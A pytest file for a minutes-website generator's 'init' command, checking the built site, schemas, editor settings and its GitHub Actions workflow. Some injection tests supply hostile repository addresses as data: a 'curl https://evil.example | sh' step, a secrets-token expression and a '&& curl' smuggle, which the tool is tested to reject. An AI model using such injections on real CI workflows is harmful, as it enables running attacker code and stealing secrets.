"""`site-gen init`: a new body's minutes repository that the real command builds at once."""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
from datetime import date
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml

from site_gen.cli import make_parser
from site_gen.commands.init import Body, notes_on, starter_files
from site_gen.install_source import InstallSource, fetchable, from_direct_url
from tests.test_check import _as_editor_sees

SITE_GEN = Path(sys.executable).parent / "site-gen"
COMMIT = "0123456789abcdef0123456789abcdef01234567"
REPOSITORY = "https://git.example.org/minutes-tools/site_gen.git"


def site_gen(*words: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(SITE_GEN), *words], cwd=cwd, capture_output=True, text=True)


def init(tmp_path: Path, *extra: str) -> Path:
    run = site_gen(
        "init", "minutes", "--group", "Finance Committee", "--organisation",
        "Riverside Community Trust", "--date", "2025-03-04", *extra, cwd=tmp_path,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    assert "Made the minutes of Finance Committee in minutes" in run.stdout
    return tmp_path / "minutes"


@pytest.fixture
def made(tmp_path: Path) -> Path:
    return init(tmp_path, "--repository", REPOSITORY, "--commit", COMMIT)


def test_a_new_site_builds_at_once_with_no_problems(made: Path) -> None:
    build = site_gen("build", "--strict", cwd=made)  # the defaults: content/ into output/
    assert build.returncode == 0, build.stderr
    assert "0 warnings" in build.stdout and "1 meeting" in build.stdout
    out = made / "output"
    page = (out / "groups/finance-committee/2025-03-04.html").read_text(encoding="utf-8")
    assert "Finance Committee" in page and "Alex Morgan" in page
    assert (out / "actions/index.html").is_file() and (out / "people/sam-patel.html").is_file()
    check = site_gen("check", "--strict", "--format", "json", cwd=made)
    assert check.returncode == 0 and json.loads(check.stdout) == []


def test_the_walkthrough_next_meeting_then_build(made: Path) -> None:
    new = site_gen("new", "meeting", "finance-committee", "--date", "2025-04-01", cwd=made)
    assert new.returncode == 0, new.stderr
    assert "meeting 2, 3 members expected, 2 open actions" in new.stdout
    drafted = made / "content/meetings/finance-committee/2025-04-01.md"
    drafted.write_text(
        drafted.read_text(encoding="utf-8").replace("status: draft", "status: approved"),
        encoding="utf-8",
    )
    build = site_gen("build", "--strict", "--no-search", cwd=made)
    assert build.returncode == 0, build.stderr
    assert "2 meetings" in build.stdout


def _yaml_of(path: Path) -> Any:
    text = path.read_text(encoding="utf-8")
    if path.suffix == ".md":  # a meeting: its front matter
        text = text.split("---\n")[1]
    return _as_editor_sees(yaml.safe_load(text))


def _schema_line(path: Path) -> Path:
    """The schema a `# yaml-language-server: $schema=` line names, relative to the file."""
    found = re.search(r"^# yaml-language-server: \$schema=(\S+)$", path.read_text("utf-8"), re.M)
    assert found, f"{path} names no schema"
    return (path.parent / found[1]).resolve()


def test_every_content_file_names_its_schema_and_is_valid_against_it(made: Path) -> None:
    files = sorted(p for p in (made / "content").rglob("*") if p.suffix in (".yaml", ".md"))
    assert len(files) == 4
    for path in files:
        schema_path = _schema_line(path)
        assert schema_path.parent == (made / "schemas").resolve(), path
        schema = json.loads(schema_path.read_text(encoding="utf-8"))
        jsonschema.Draft202012Validator.check_schema(schema)
        errors = list(jsonschema.Draft202012Validator(schema).iter_errors(_yaml_of(path)))
        assert errors == [], (path, [e.message for e in errors])


def test_the_editor_settings_associate_each_schema_with_files_that_exist(made: Path) -> None:
    settings = json.loads((made / ".vscode/settings.json").read_text(encoding="utf-8"))
    associations = settings["yaml.schemas"]
    for schema, pattern in associations.items():
        assert (made / schema).is_file(), schema
        assert list(made.glob(pattern)), f"{pattern} matches no file"
    recommended = json.loads((made / ".vscode/extensions.json").read_text(encoding="utf-8"))
    assert "redhat.vscode-yaml" in recommended["recommendations"]
    # Meetings' front matter is checked by site-gen check, whose lines the task's matcher reads.
    tasks = json.loads((made / ".vscode/tasks.json").read_text(encoding="utf-8"))["tasks"]
    (check,) = [t for t in tasks if t["label"] == "site-gen check"]
    pattern = re.compile(check["problemMatcher"]["pattern"]["regexp"])
    line = "content/meetings/x/2025-03-04.md:9: error: unknown kind of attendance 'presnt'"
    assert pattern.match(line)


def test_the_workflow_is_valid_yaml_naming_its_steps_and_pins_site_gen(made: Path) -> None:
    workflow = yaml.safe_load((made / ".github/workflows/pages.yml").read_text("utf-8"))
    assert set(workflow["jobs"]) == {"build", "deploy"}
    assert workflow["permissions"] == {"contents": "read", "pages": "write", "id-token": "write"}
    assert workflow["env"] == {"SITE_GEN_REPOSITORY": REPOSITORY, "SITE_GEN_COMMIT": COMMIT}
    steps = [s for job in workflow["jobs"].values() for s in job["steps"]]
    assert all(step.get("name") for step in steps), "every step says what it does"
    runs = [s["run"] for s in steps if "run" in s]
    (install,) = [r for r in runs if "pip install" in r]
    assert '"site-gen[search] @ git+${SITE_GEN_REPOSITORY}@${SITE_GEN_COMMIT}"' in install
    (command,) = [r for r in runs if r.startswith("site-gen build")]
    words = shlex.split(
        command.replace("${{ steps.pages.outputs.base_url }}", "https://o.github.io/r")
    )
    args = make_parser().parse_args(words[1:])  # exits (fails the test) on an unknown option
    assert args.strict and args.base_url == "https://o.github.io/r/"
    (upload,) = [s for s in steps if "upload-pages-artifact" in s.get("uses", "")]
    assert upload["with"]["path"] == str(args.out)
    assert any("deploy-pages" in s.get("uses", "") for s in workflow["jobs"]["deploy"]["steps"])


def test_the_next_steps_name_the_command_as_it_is_on_path(tmp_path: Path) -> None:
    env = {**os.environ, "PATH": f"{SITE_GEN.parent}{os.pathsep}{os.environ.get('PATH', '')}"}
    run = subprocess.run(
        ["site-gen", "init", "m"], cwd=tmp_path, capture_output=True, text=True, env=env
    )
    assert run.returncode == 0, run.stderr
    assert "then site-gen serve to preview" in run.stdout


def test_a_site_made_without_a_known_source_says_what_to_fill_in(tmp_path: Path) -> None:
    run = site_gen("init", "m", "--repository", REPOSITORY, cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    workflow = yaml.safe_load((tmp_path / "m/.github/workflows/pages.yml").read_text("utf-8"))
    commit = workflow["env"]["SITE_GEN_COMMIT"]
    # This checkout knows its commit; a copy that does not gets a placeholder and a note.
    assert re.fullmatch(r"[0-9a-f]{40}", commit) or "set SITE_GEN_COMMIT" in run.stdout


@pytest.mark.parametrize("inside", ["notes.txt", ".hidden", "sub/"])
def test_a_folder_that_is_not_empty_is_refused(tmp_path: Path, inside: str) -> None:
    folder = tmp_path / "minutes"
    (folder / inside.rstrip("/")).parent.mkdir(parents=True, exist_ok=True)
    if inside.endswith("/"):
        (folder / inside).mkdir()
    else:
        (folder / inside).write_text("keep me\n", encoding="utf-8")
    before = sorted(p.relative_to(folder) for p in folder.rglob("*"))
    run = site_gen("init", "minutes", cwd=tmp_path)
    assert run.returncode == 1
    first, hint = run.stderr.splitlines()[:2]
    assert first.startswith("minutes: error: the folder is not empty (1 entry: ")
    assert inside.rstrip("/") in first and "nothing was written" in first
    assert hint.startswith("  hint: ")
    assert sorted(p.relative_to(folder) for p in folder.rglob("*")) == before
    assert run.stdout == ""


def test_a_file_is_refused_and_an_empty_repository_is_not(tmp_path: Path) -> None:
    (tmp_path / "a-file").write_text("x", encoding="utf-8")
    run = site_gen("init", "a-file", cwd=tmp_path)
    assert run.returncode == 1 and run.stderr.startswith("a-file: error: is a file")
    (tmp_path / "repo/.git").mkdir(parents=True)  # what `git init` or a clone leaves
    path = os.pathsep.join(
        p
        for p in os.environ.get("PATH", "").split(os.pathsep)
        if p and Path(p).resolve() != SITE_GEN.parent.resolve()
    )
    run = subprocess.run(
        [str(SITE_GEN), "init", "--date", "2025-01-09"],
        cwd=tmp_path / "repo", capture_output=True, text=True, env={**os.environ, "PATH": path},
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    assert (tmp_path / "repo/content/meetings/committee/2025-01-09.md").is_file()
    # No `cd` into the folder it is in; the command as it runs from there (not on PATH here).
    assert f"Next: {SITE_GEN.resolve()} serve" in run.stdout


@pytest.mark.parametrize(
    ("remote", "expected"),
    [
        ("git@github.com:owner/site_gen.git", "https://github.com/owner/site_gen.git"),
        ("ssh://git@gitlab.com/owner/site_gen.git", "https://gitlab.com/owner/site_gen.git"),
        ("https://github.com/owner/site_gen", "https://github.com/owner/site_gen"),
        ("/home/me/site_gen", None),
        ("file:///home/me/site_gen", None),
    ],
)
def test_remotes_become_addresses_ci_can_fetch(remote: str, expected: str | None) -> None:
    assert fetchable(remote) == expected


def test_an_install_from_git_is_pinned_to_the_commit_it_recorded() -> None:
    record = {
        "url": "https://github.com/owner/site_gen",
        "vcs_info": {"vcs": "git", "commit_id": COMMIT, "requested_revision": "main"},
    }
    assert from_direct_url(record) == InstallSource("https://github.com/owner/site_gen", COMMIT)
    assert from_direct_url({"url": "https://files.example.org/site_gen-0.1.0.whl"}) is None


@pytest.mark.parametrize(
    "address",
    [
        "https://github.com/a/b\n      - run: curl https://evil.example | sh",  # a step of its own
        "https://github.com/a/b ${{ secrets.GITHUB_TOKEN }}",  # evaluated by GitHub Actions
        'https://github.com/a/b" && curl evil',
        "/home/clerk/site_gen",  # a folder CI has not got
    ],
)
def test_a_repository_address_cannot_write_into_the_workflow(tmp_path: Path, address: str) -> None:
    run = site_gen("init", "minutes", "--repository", address, "--commit", COMMIT, cwd=tmp_path)
    assert run.returncode != 0 and "is not a repository's address" in run.stderr, run.stderr
    assert "Traceback" not in run.stderr
    assert not (tmp_path / "minutes").exists()


@pytest.mark.parametrize("remote", ["https://h/x\n  - run: sh", "https://h/${{ secrets.X }}"])
def test_a_recorded_remote_with_such_characters_is_no_source(remote: str) -> None:
    assert fetchable(remote) is None


def _check_step(workflow: dict[str, Any]) -> str:
    (step,) = [s for s in workflow["jobs"]["build"]["steps"] if s["name"].startswith("Check which")]
    return str(step["run"])


def _run_check(workflow: dict[str, Any]) -> subprocess.CompletedProcess[str]:
    """The workflow's check of its source, run by bash with the workflow's env, as CI runs it."""
    env = {**os.environ, **{k: str(v) for k, v in workflow["env"].items()}}
    return subprocess.run(
        ["bash", "-e", "-c", _check_step(workflow)], capture_output=True, text=True, env=env
    )


@pytest.mark.parametrize(
    ("source", "unset"),
    [
        (InstallSource(None, None), ["SITE_GEN_REPOSITORY", "SITE_GEN_COMMIT"]),
        (InstallSource(REPOSITORY, None), ["SITE_GEN_COMMIT"]),
        (InstallSource(None, COMMIT), ["SITE_GEN_REPOSITORY"]),
    ],
)
def test_a_workflow_without_a_known_source_stops_at_once_saying_what_to_set(
    source: InstallSource, unset: list[str]
) -> None:
    """A copy installed from a folder with no remote (a download) cannot name its source: the
    workflow's first step fails with the line to fill in, not pip with a made-up address."""
    body = Body("Finance Committee", "Riverside Community Trust", "Minutes", date(2025, 3, 4))
    text = starter_files(body, source)[".github/workflows/pages.yml"]
    assert "github.com/OWNER" not in text, "no address that looks like a real one"
    workflow = yaml.safe_load(text)
    run = _run_check(workflow)
    assert run.returncode == 1
    assert [
        name for name in ("SITE_GEN_REPOSITORY", "SITE_GEN_COMMIT") if f"Set {name}" in run.stdout
    ] == unset
    assert notes_on(source), "init says so too"


def test_a_workflow_with_its_source_passes_the_check(made: Path) -> None:
    workflow = yaml.safe_load((made / ".github/workflows/pages.yml").read_text("utf-8"))
    run = _run_check(workflow)
    assert run.returncode == 0, run.stdout
    steps = [s["name"] for s in workflow["jobs"]["build"]["steps"]]
    assert steps.index("Check which site_gen to install") < steps.index(
        "Install site_gen with search, pinned to one commit"
    )
